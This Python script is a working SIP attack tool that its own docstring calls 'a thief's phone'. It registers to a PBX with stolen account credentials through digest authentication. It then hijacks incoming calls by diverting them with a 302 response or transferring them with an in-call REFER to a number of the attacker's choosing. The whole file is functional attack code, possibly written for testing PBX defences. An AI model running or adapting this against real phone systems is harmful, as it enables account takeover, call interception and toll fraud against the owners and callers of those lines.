"""A thief's phone: registers with stolen credentials and, when it is called, sends the caller somewhere else.

Input: {"door": {"source", "host", "port", "over"}, "user", "password", "to": NUMBER, "how", "seconds"}. `how`:
`divert` answers with 302 Moved Temporarily; `transfer` answers the call and sends REFER in it. Prints {"registered":
STATUS} when the registration is answered (null: silence), and {"calls", "answers"} at its end: calls it got, and the
statuses its REFERs got.
"""

import json
import sys
import time

from sip_line import Digest, Line, Response, challenge_of, request, token


def register(line, job, expires):
    account = f"<sip:{job['user']}@{job['door']['host']}>"
    order = {"method": "REGISTER", "uri": f"sip:{job['door']['host']}", "from": f"{account};tag={token()}"}
    order.update({"to": account, "callId": token()})
    contact = {"Contact": f"<sip:{job['user']}@{line.via};transport={line.over}>", "Expires": expires}
    line.send(request(line, order, 1, contact))
    first = answer_to(line, order)
    if first is None:
        return None
    answer = Digest(challenge_of(first)).answer(job["user"], job["password"], "REGISTER", order["uri"])
    line.send(request(line, order, 2, {**contact, "Authorization": answer}))
    last = answer_to(line, order)
    return None if last is None else last.status


def answer_to(line, order):
    """The next final response of this dialog; what else comes, such as OPTIONS of the PBX, is let pass."""
    while (text := line.receive(5)) is not None:
        if not text.startswith("SIP/2.0 "):
            continue
        response = Response(text)
        if response.first("call-id") == order["callId"] and response.status >= 200:
            return response
    return None


class Call:
    """An incoming call; headers of the INVITE in the order they stand there."""

    def __init__(self, text):
        head = text.split("\r\n\r\n", 1)[0].split("\r\n")[1:]
        self.headers = [tuple(part.strip() for part in line.split(":", 1)) for line in head if ":" in line]
        self.tag = token()

    def all(self, name):
        return [value for key, value in self.headers if key.lower() == name]

    def answer(self, line, status, extra=(), body=""):
        copied = [f"Via: {via}" for via in self.all("via")] + [f"From: {self.all('from')[0]}"]
        to = self.all("to")[0]
        copied += [f"To: {to if ';tag=' in to else f'{to};tag={self.tag}'}", f"Call-ID: {self.all('call-id')[0]}"]
        copied += [f"CSeq: {self.all('cseq')[0]}", *extra, f"Content-Length: {len(body)}"]
        line.send("\r\n".join([f"SIP/2.0 {status}", *copied, "", body]))

    def refer(self, line, job):
        uri = self.all("contact")[0].split("<")[1].split(">")[0]
        order = {"method": "REFER", "uri": uri, "from": f"{self.all('to')[0]};tag={self.tag}"}
        order.update({"to": self.all("from")[0], "callId": self.all("call-id")[0]})
        line.send(request(line, order, 1, {"Refer-To": f"<sip:{job['to']}@{job['door']['host']}>"}))


def sdp(line):
    address = line.via.rpartition(":")[0]
    return f"v=0\r\no=- 1 1 IN IP4 {address}\r\ns=-\r\nc=IN IP4 {address}\r\nt=0 0\r\nm=audio 40000 RTP/AVP 0 8\r\n"


def invited(line, job, call):
    contact = f"Contact: <sip:{job['user']}@{line.via};transport={line.over}>"
    if job["how"] == "divert":
        where = f"Contact: <sip:{job['to']}@{job['door']['host']}>"
        call.answer(line, "302 Moved Temporarily", [where])
    else:
        call.answer(line, "200 OK", [contact, "Content-Type: application/sdp"], sdp(line))


def serve(line, job):
    calls, answers, deadline = {}, [], time.monotonic() + job["seconds"]
    while (text := line.receive(deadline - time.monotonic())) is not None:
        method = text.split(" ", 1)[0]
        if method == "SIP/2.0":
            if " REFER" in Response(text).first("cseq"):
                answers.append(Response(text).status)
            continue
        call = Call(text)
        identity = call.all("call-id")[0]
        if method == "INVITE" and identity not in calls:
            calls[identity] = call
            invited(line, job, call)
        elif method == "ACK" and job["how"] == "transfer" and identity in calls:
            calls[identity].refer(line, job)
        elif method not in ("ACK", "INVITE"):
            call.answer(line, "200 OK")
    return {"calls": len(calls), "answers": answers}


def main():
    job = json.loads(sys.stdin.readline())
    line = Line(job["door"], 2)
    print(json.dumps({"registered": register(line, job, "120")}), flush=True)
    told = serve(line, job)
    register(line, job, "0")
    print(json.dumps(told), flush=True)


if __name__ == "__main__":
    main()
